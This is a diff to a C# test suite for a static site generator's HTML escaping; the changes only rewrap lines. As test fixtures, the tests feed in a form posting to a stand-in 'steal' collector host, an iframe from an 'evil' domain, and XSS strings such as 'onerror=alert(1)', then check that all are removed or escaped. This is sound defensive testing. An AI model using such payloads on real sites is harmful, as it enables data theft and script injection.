@@ -74,7 +74,8 @@ public sealed class EscapingTests
         using var fixture = FixtureSite.Copy("three-languages");
         fixture.Write("content/sectors/electronics/en.md",
             "Write to us.\n\n<form action=\"https://collector.example/steal\" method=\"post\"><label>Mail</label>\n" +
-            "<input name=\"email\"> <textarea name=\"message\"></textarea> <select name=\"topic\"><option>Land</option></select>\n" +
+            "<input name=\"email\"> <textarea name=\"message\"></textarea> " +
+            "<select name=\"topic\"><option>Land</option></select>\n" +
             "<button type=\"submit\">Send</button></form>\n\n<b>kept</b>\n");
         var built = fixture.BuildSuccessfully();
         var body = built.Page("en/sectors/electronics/index.html").QuerySelector("#body")!;
@@ -84,14 +85,16 @@ public sealed class EscapingTests
         var warning = Assert.Single(built.Result.Diagnostics);
         Assert.Equal((DiagnosticCodes.RawHtmlRemoved, new SourceLocation("content/sectors/electronics/en.md", 3, 1)),
             (warning.Code, warning.Location));
-        Assert.StartsWith("raw HTML that is not allowed was removed from the page: <form>", warning.Message, StringComparison.Ordinal);
+        Assert.StartsWith("raw HTML that is not allowed was removed from the page: <form>", warning.Message,
+            StringComparison.Ordinal);
     }
 
     [Fact]
     public void An_iframe_is_kept_only_from_a_host_that_site_yaml_lists()
     {
         using var fixture = FixtureSite.Copy("three-languages");
-        File.AppendAllText(Path.Combine(fixture.Root, "content/site.yaml"), "iframe_hosts: [www.youtube-nocookie.com]\n");
+        File.AppendAllText(Path.Combine(fixture.Root, "content/site.yaml"),
+            "iframe_hosts: [www.youtube-nocookie.com]\n");
         fixture.Write("content/sectors/electronics/en.md",
             "<iframe src=\"https://www.youtube-nocookie.com/embed/abc\" title=\"Video\"></iframe>\n\n" +
             "<iframe src=\"https://evil.example.com/x\" title=\"Other\"></iframe>\n");
@@ -105,10 +108,12 @@ public sealed class EscapingTests
     {
         using var fixture = FixtureSite.Copy("three-languages");
         fixture.Write("content/sectors/electronics/index.yaml",
-            "title: {en: 'Quote\" onmouseover=\"alert(1)', ja: 電子, ko: 전자}\nsummary: \"'><img src=x onerror=alert(1)>\"\n");
+            "title: {en: 'Quote\" onmouseover=\"alert(1)', ja: 電子, ko: 전자}\n" +
+            "summary: \"'><img src=x onerror=alert(1)>\"\n");
         var built = fixture.BuildSuccessfully();
         var page = built.Page("en/sectors/electronics/index.html");
-        Assert.Equal("'><img src=x onerror=alert(1)>", page.QuerySelector("meta[name=description]")!.GetAttribute("content"));
+        Assert.Equal("'><img src=x onerror=alert(1)>",
+            page.QuerySelector("meta[name=description]")!.GetAttribute("content"));
         Assert.Empty(page.QuerySelectorAll("img, [onmouseover], [onerror]"));
         Assert.Equal("Quote\" onmouseover=\"alert(1)", page.QuerySelector("h1")!.TextContent);
     }
